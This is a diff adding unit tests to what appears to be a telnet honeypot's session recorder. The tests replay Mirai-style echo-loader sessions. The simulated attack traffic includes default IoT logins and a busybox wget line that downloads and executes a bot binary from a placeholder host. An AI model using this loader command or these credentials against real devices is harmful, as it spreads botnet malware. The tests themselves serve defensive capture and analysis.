@@ -6,6 +6,7 @@
  * whole and one byte at a time.
  */
 #include "test_resp_harness.h"
+#include "test_resp_budget.h"
 
 static const char tx_telnetlib[] =
     "\377\374\001\377\374\037\377\376\001\377\376\003root\r\n"
@@ -175,6 +176,172 @@ static void test_bounds(void **state)
 	tr_close(&c);
 }
 
+/* Deterministic stand-in for a loader's binary. */
+static void fill_bytes(uint8_t *p, size_t n, uint32_t seed)
+{
+	for (size_t i = 0; i < n; i++) {
+		seed = seed * 1103515245 + 12345;
+		p[i] = (uint8_t)(seed >> 16);
+	}
+}
+
+/* "echo -ne '\xHH...' REDIR NAME\r\n" for n bytes. */
+static size_t echo_line(char *out, const uint8_t *p, size_t n, const char *redir)
+{
+	size_t o = (size_t)sprintf(out, "echo -ne '");
+	for (size_t i = 0; i < n; i++)
+		o += (size_t)sprintf(out + o, "\\x%02x", p[i]);
+	o += (size_t)sprintf(out + o, "' %s\r\n", redir);
+	return o;
+}
+
+#define MIRAI_LINES 132
+#define MIRAI_CHUNK 128
+
+/*
+ * A Mirai-style echo loader: login, 132 lines of `echo -ne '\x..' >> .d`
+ * (128 bytes each, 530 characters), the wget that fetches the bot, exit.
+ * Its commands are more than the record budget holds: the first ones are
+ * kept, the rest counted; the URL after them and the credentials before are
+ * kept; the file is rebuilt whole; the event is not cut; what is kept is
+ * counted in the worker's memory budget and given back at the end.
+ */
+static void test_mirai_loader_budget(void **state)
+{
+	static uint8_t bin[MIRAI_LINES * MIRAI_CHUNK];
+	char *tx = malloc(MIRAI_LINES * 600 + 1000);
+	fill_bytes(bin, sizeof(bin), 7);
+	size_t n = (size_t)sprintf(tx, "root\r\nxc3511\r\n");
+	for (int i = 0; i < MIRAI_LINES; i++)
+		n += echo_line(tx + n, bin + i * MIRAI_CHUNK, MIRAI_CHUNK, ">> .d");
+	n += (size_t)sprintf(tx + n, "/bin/busybox wget http://203.0.113.7/bins/mirai.arm7 -O "
+	                             ".x; chmod 777 .x; ./.x\r\nexit\r\n");
+	struct tr_conn c;
+	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, n);
+	assert_int_equal(c.act, RESP_CLOSE);
+	tr_assert_budget(&c, "telnet.commands", "telnet.command_count",
+	                 "telnet.commands_not_kept", MIRAI_LINES + 2);
+	/* the first commands, in order */
+	const char *first = tr_elem(&c, "telnet.commands", 0, NULL);
+	assert_non_null(first);
+	assert_memory_equal(first, tx + 14, 30);
+	assert_string_equal(tr_elem(&c, "telnet.urls", 0, NULL),
+	                    "http://203.0.113.7/bins/mirai.arm7");
+	assert_string_equal(tr_str(&c, "credentials.username"), "root");
+	assert_string_equal(tr_str(&c, "credentials.password"), "xc3511");
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].kind, "telnet_echo_file");
+	assert_string_equal(c.pl[0].name, ".d");
+	assert_int_equal(c.pl[0].len, sizeof(bin));
+	assert_memory_equal(c.pl[0].data, bin, sizeof(bin));
+	tr_close(&c);
+	assert_int_equal(resp_mem_held(), 0);
+
+	/* while the connection lives, what it recorded is in the memory budget */
+	tr_open(&c, &resp_telnet, &tn_cfg);
+	tr_start(&c);
+	tr_feed(&c, tx, n, 0);
+	size_t held = tr_held_beyond_out(&c);
+	size_t kept = tr_strings_len(&c, "telnet.commands");
+	if (held < kept + sizeof(bin))
+		fail_msg("held %zu for %zu bytes of commands and the %zu-byte file", held, kept,
+		         sizeof(bin));
+	tr_close(&c);
+	assert_int_equal(resp_mem_held(), 0);
+	free(tx);
+}
+
+/*
+ * An echo-loader line longer than the line buffer (4423 characters: 1100
+ * bytes as \xHH, the redirect at its end): the file is rebuilt, the raw line
+ * kept as a payload, and the line counted. Whole and one byte at a time.
+ */
+static void test_long_echo_line(void **state)
+{
+	uint8_t bin[1100];
+	char line[8000];
+	fill_bytes(bin, sizeof(bin), 11);
+	size_t ll = echo_line(line, bin, sizeof(bin), "> .loader");
+	assert_int_equal(ll, 4423);
+	char *tx = malloc(ll + 100);
+	size_t n = (size_t)sprintf(tx, "root\r\nvizxv\r\n");
+	memcpy(tx + n, line, ll);
+	n += ll;
+	n += (size_t)sprintf(tx + n, "exit\r\n");
+	struct tr_conn c;
+	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, n);
+	assert_int_equal(c.act, RESP_CLOSE);
+	assert_int_equal(tr_int(&c, "telnet.long_lines"), 1);
+	assert_string_equal(tr_elem(&c, "telnet.echo_files", 0, NULL), ".loader");
+	assert_int_equal(c.npl, 2);
+	/* the raw line when it ended, the file at the end of the connection */
+	assert_string_equal(c.pl[0].kind, "telnet_line");
+	assert_string_equal(c.pl[0].name, "line-1.txt");
+	assert_int_equal(c.pl[0].len, ll - 2);
+	assert_memory_equal(c.pl[0].data, line, ll - 2);
+	assert_false(c.pl[0].truncated);
+	assert_string_equal(c.pl[1].kind, "telnet_echo_file");
+	assert_string_equal(c.pl[1].name, ".loader");
+	assert_int_equal(c.pl[1].len, sizeof(bin));
+	assert_memory_equal(c.pl[1].data, bin, sizeof(bin));
+	/* recorded as a command like any other (its first bytes) */
+	assert_memory_equal(tr_elem(&c, "telnet.commands", 0, NULL), line, 100);
+	tr_close(&c);
+	assert_int_equal(resp_mem_held(), 0);
+	free(tx);
+}
+
+/*
+ * Long lines edited (backspace, ^C), longer than the payload bound, and cut
+ * off by the end of the connection.
+ */
+static void test_long_line_edges(void **state)
+{
+	char *tx = malloc(40000);
+	size_t n = (size_t)sprintf(tx, "u\r\np\r\n");
+	/* 4800 'a', three taken back by backspace: "echo" output of 4797 'a' */
+	n += (size_t)sprintf(tx + n, "echo ");
+	memset(tx + n, 'a', 4800);
+	n += 4800;
+	memcpy(tx + n, "\b\x7f\b\r\n", 5);
+	n += 5;
+	/* 6000 bytes, then ^C: dropped, no payload */
+	memset(tx + n, 'b', 6000);
+	n += 6000;
+	tx[n++] = 0x03;
+	/* a line past max_payload (5000): cut, kept as truncated, not run */
+	n += (size_t)sprintf(tx + n, "echo ");
+	memset(tx + n, 'c', 9000);
+	n += 9000;
+	n += (size_t)sprintf(tx + n, " > .c\r\n");
+	/* a long line the connection ends in */
+	memset(tx + n, 'd', 4500);
+	n += 4500;
+	struct resp_config cfg = tn_cfg;
+	cfg.max_payload = 5000;
+	struct tr_conn c;
+	tr_run_both(&c, &resp_telnet, &cfg, tx, n);
+	assert_int_equal(tr_int(&c, "telnet.long_lines"), 3);
+	assert_int_equal(c.npl, 3);
+	assert_string_equal(c.pl[0].name, "line-1.txt");
+	assert_int_equal(c.pl[0].len, 5 + 4797);
+	assert_false(c.pl[0].truncated);
+	assert_string_equal(c.pl[1].name, "line-2.txt");
+	assert_int_equal(c.pl[1].len, 5000);
+	assert_true(c.pl[1].truncated);
+	assert_string_equal(c.pl[2].name, "line-3.txt");
+	assert_int_equal(c.pl[2].len, 4500);
+	assert_null(tr_elem(&c, "telnet.echo_files", 0, NULL));
+	/* the first echo's output: 4797 'a' and no more */
+	const char *o = tr_out(&c);
+	const char *a = strstr(o, "aaaa");
+	assert_non_null(a);
+	assert_int_equal(strspn(a, "a"), 4797);
+	tr_close(&c);
+	assert_int_equal(resp_mem_held(), 0);
+	free(tx);
+}
+
 static void test_garbage(void **state)
 {
 	uint8_t junk[3000];
@@ -201,6 +368,9 @@ int main(void)
 	    cmocka_unit_test(test_timeouts),
 	    cmocka_unit_test(test_bounds),
 	    cmocka_unit_test(test_garbage),
+	    cmocka_unit_test(test_mirai_loader_budget),
+	    cmocka_unit_test(test_long_echo_line),
+	    cmocka_unit_test(test_long_line_edges),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
